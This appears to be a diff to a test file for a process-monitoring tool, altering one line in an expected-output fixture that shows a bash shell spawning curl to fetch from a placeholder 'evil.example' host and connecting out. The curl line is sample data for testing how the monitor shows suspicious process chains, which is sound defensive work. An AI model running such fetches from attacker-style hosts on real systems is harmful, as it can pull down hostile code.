@@ -9,7 +9,7 @@ from pysmon.views.lineage import Lineage
 from pysmon.views.words import Screen
 
 CHAIN = """\
-init [1]  joe  not seen to begin
+init [1]  joe  began earlier
   > bash [100]  joe  since 2026-11-21 08:15:00.100  bash -l
     > curl [101]  joe  since 2026-11-21 08:15:00.200  env curl http://evil.example/x then curl http://evil.example/x
       2026-11-21 08:15:00.500  curl (101) connected to 192.0.2.1:443 (tcp)"""
